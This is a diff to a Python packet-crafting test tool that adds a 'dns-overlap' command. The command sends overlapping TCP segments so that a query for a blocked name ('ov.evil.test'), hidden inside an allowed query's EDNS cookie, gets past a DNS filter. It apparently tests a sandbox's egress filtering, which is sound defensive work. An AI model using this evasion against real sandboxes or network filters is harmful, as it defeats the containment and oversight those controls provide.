@@ -32,6 +32,7 @@
 #   craft.py oob-tls --dst A [--dport 443] --name N   (the sandbox's own TCP: one
 #            byte sent urgent, MSG_OOB, then a TLS handshake naming N: issue 30)
 #   craft.py dns ... --tcp --oob   (the query sent urgent)
+#   craft.py dns-overlap --dst A --sport P --scenario overlap|same   (issue 30)
 #   craft.py oob-server --listen A --port P --cert F --key F --log F [--inline]
 #            (upstream: a TLS server that reads with SO_OOBINLINE when --inline,
 #            answers "oob-server <SNI> ok" and logs each connection's first bytes)
@@ -792,6 +793,69 @@ def cmd_held(a):
         sys.exit("craft: unknown scenario " + a.scenario)
 
 
+def dns_msg(name, ident, options=b""):
+    """A query for name's A record (EDNS with options when given)."""
+    ar, extra = (1, opt_rr(options)) if options else (0, b"")
+    q = qname(name) + struct.pack("!HH", 1, 1)
+    return struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, ar) + q + extra
+
+
+def framed(msg):
+    return struct.pack("!H", len(msg)) + msg
+
+
+def cmd_dns_overlap(a):
+    """Issue 30: two whole allowed queries over TCP, the second sent at a
+    sequence number inside the first. The receiver keeps the first bytes
+    where they overlap, so it frames the second one's tail (the last 40
+    bytes, a well-formed EDNS cookie) as the next message: a query for
+    a.evil. --scenario same sends the first query again unchanged (a
+    retransmission), then a second query in order."""
+    p = TcpPeer(a)
+    isn = random.randrange(1 << 20, 1 << 31)
+    if not p.handshake(isn):
+        print("no SYN-ACK; " + p.summary())
+        return
+    first = framed(dns_msg(a.name, 0x1111, struct.pack("!HH", 12, 64) + b"\0" * 64))
+    if a.scenario == "overlap":
+        tail = framed(dns_msg(a.evil, 0x2222))
+        if len(tail) > 40:
+            sys.exit("craft: --evil too long for a 40-byte cookie")
+        cookie = b"c" * (40 - len(tail)) + tail
+        second = framed(dns_msg(a.name, 0x3333, struct.pack("!HH", 10, 40) + cookie))
+        # second's last len(tail) bytes land just past first's end
+        at = len(first) - (len(second) - len(tail))
+        if at <= 0:
+            sys.exit("craft: the second query does not start inside the first")
+        p.send("PA", isn + 1, p.rcv, first)
+        p.recv(0.5)
+        p.send("PA", isn + 1 + at, p.rcv, second)
+        p.recv(1.5)
+    elif a.scenario == "same":
+        second = framed(dns_msg(a.name, 0x4444))
+        irs = (p.rcv - 1) & 0xFFFFFFFF
+
+        def acked(got, end):
+            # acknowledge the answers (else the resolver sends the first
+            # again, and holds the next one behind it)
+            for fl, seq, _, n in got:
+                if n:
+                    p.rcv = max(p.rcv - irs, (seq + n - irs) & 0xFFFFFFFF) + irs
+            p.rcv &= 0xFFFFFFFF
+            p.send("A", end, p.rcv)
+
+        p.send("PA", isn + 1, p.rcv, first)
+        acked(p.recv(0.5), isn + 1 + len(first))
+        p.send("PA", isn + 1, p.rcv, first)  # the same bytes again
+        acked(p.recv(0.3), isn + 1 + len(first))
+        p.send("PA", isn + 1 + len(first), p.rcv, second)
+        acked(p.recv(1.0), isn + 1 + len(first) + len(second))
+    else:
+        sys.exit("craft: unknown scenario " + a.scenario)
+    answers = len(set(seq for fl, seq, _, n in p.seen if n and not fl & 0x04))
+    print("answers %d; %s" % (answers, p.summary()))
+
+
 def cmd_oob_tls(a):
     """Issue 30 with the sandbox's own TCP: one byte sent urgent
     (MSG_OOB: URG, urgent pointer 1), a pause, then a real TLS handshake
@@ -996,6 +1060,14 @@ def main():
     t.add_argument("--scenario", required=True)
     t.add_argument("--good", default="cdn-good.test")
     t.add_argument("--evil", default="cdn-evil.test")
+
+    t = sub.add_parser("dns-overlap")
+    t.add_argument("--dst", required=True)
+    t.add_argument("--dport", type=int, default=53)
+    t.add_argument("--sport", type=int, required=True)
+    t.add_argument("--scenario", required=True)
+    t.add_argument("--name", default="api.github.test")
+    t.add_argument("--evil", default="ov.evil.test")
 
     t = sub.add_parser("oob-server")
     t.add_argument("--listen", required=True)
